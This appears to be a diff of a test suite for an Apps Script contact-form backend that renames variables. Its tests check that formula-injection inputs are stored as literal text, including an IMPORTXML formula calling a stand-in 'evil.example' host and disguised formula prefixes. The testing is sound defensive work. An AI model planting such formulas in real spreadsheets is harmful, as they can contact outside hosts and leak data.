@@ -12,21 +12,21 @@ const post = (payload: unknown, id?: string) => script.post(payload, id ? { subm
 
 describe('§7.1 docs/apps-script.gs', () => {
   const formulas = ['=1+1', '=IMPORTXML("https://evil.example","//a")', '+919876543210', '-1', '@SUM(A1)'];
-  const hidden = ['\t=1', '\r=1', '\n=1', '\uff1d1', '\uff0b1', '\u202e=1', '\ufeff=1', '\u0000=1', ' =1'];
-  const guessed = ['015112345678', '1/2', '1e5', '2026-03-02', '10:30', 'TRUE', '12345678901234567890', '5%', ''];
-  const quoted = ["'twas", "'=1", "''=1", "'"];
+  const hiddenFormulas = ['\t=1', '\r=1', '\n=1', '\uff1d1', '\uff0b1', '\u202e=1', '\ufeff=1', '\u0000=1', ' =1'];
+  const guessedValues = ['015112345678', '1/2', '1e5', '2026-03-02', '10:30', 'TRUE', '12345678901234567890', '5%', ''];
+  const quotedValues = ["'twas", "'=1", "''=1", "'"];
 
-  test.each([...formulas, ...hidden, ...guessed, ...quoted])(
+  test.each([...formulas, ...hiddenFormulas, ...guessedValues, ...quotedValues])(
     'the script stores %j from a browser as literal text',
     (message) => {
       expect(post(createPayload('contact', { message, name: message, phone: message }))).toEqual({ ok: true });
-      expect(script.records('Contact')).toMatchObject([
+      expect(script.listRecords('Contact')).toMatchObject([
         { message: { text: message }, name: { text: message }, phone: { text: message } },
       ]);
     },
   );
 
-  test.each([...formulas, '\t=1', '\uff1d1', ...guessed, ...quoted])(
+  test.each([...formulas, '\t=1', '\uff1d1', ...guessedValues, ...quotedValues])(
     'the script stores %j from the relay as literal text',
     (message) => {
       expect(
@@ -34,7 +34,7 @@ describe('§7.1 docs/apps-script.gs', () => {
       ).toEqual({
         ok: true,
       });
-      expect(script.records('Contact')).toMatchObject([
+      expect(script.listRecords('Contact')).toMatchObject([
         { message: { text: message }, phone: { text: '+4915112345678' } },
       ]);
     },
@@ -42,24 +42,26 @@ describe('§7.1 docs/apps-script.gs', () => {
 
   test('the script stores "\'twas" from an earlier relay, which added no apostrophe, as literal text', () => {
     post(createPayload('contact', { message: "'twas" }), createKey());
-    expect(script.records('Contact')).toMatchObject([{ message: { text: "'twas" } }]);
+    expect(script.listRecords('Contact')).toMatchObject([{ message: { text: "'twas" } }]);
   });
 
   test('the fake spreadsheet converts every test value that a person types into a cell', () => {
-    const tab = script.tabNamed('Contact');
-    const changed = [...formulas, ...hidden, ...guessed.filter(Boolean), ...quoted];
-    changed.forEach((value) => tab?.appendRow([value]));
-    const kept = changed.filter((value, at) => JSON.stringify(tab?.rows[at]) === JSON.stringify([{ text: value }]));
-    expect([tab?.rows.length, kept]).toEqual([changed.length, []]);
+    const tab = script.findTab('Contact');
+    const convertedValues = [...formulas, ...hiddenFormulas, ...guessedValues.filter(Boolean), ...quotedValues];
+    convertedValues.forEach((value) => tab?.appendRow([value]));
+    const textValues = convertedValues.filter(
+      (value, index) => JSON.stringify(tab?.rows[index]) === JSON.stringify([{ text: value }]),
+    );
+    expect([tab?.rows.length, textValues]).toEqual([convertedValues.length, []]);
   });
 
-  test.each([...formulas, ...guessed, ...quoted])(
+  test.each([...formulas, ...guessedValues, ...quotedValues])(
     'the script stores %j as literal text in a column with the format "Plain text"',
     (message) => {
-      const tab = script.tabNamed('Contact');
+      const tab = script.findTab('Contact');
       for (let column = 1; column <= 10; column += 1) tab?.textColumns.add(column);
       post(createPayload('contact', { message }));
-      expect(script.records('Contact')).toMatchObject([{ message: { text: message } }]);
+      expect(script.listRecords('Contact')).toMatchObject([{ message: { text: message } }]);
     },
   );
 });
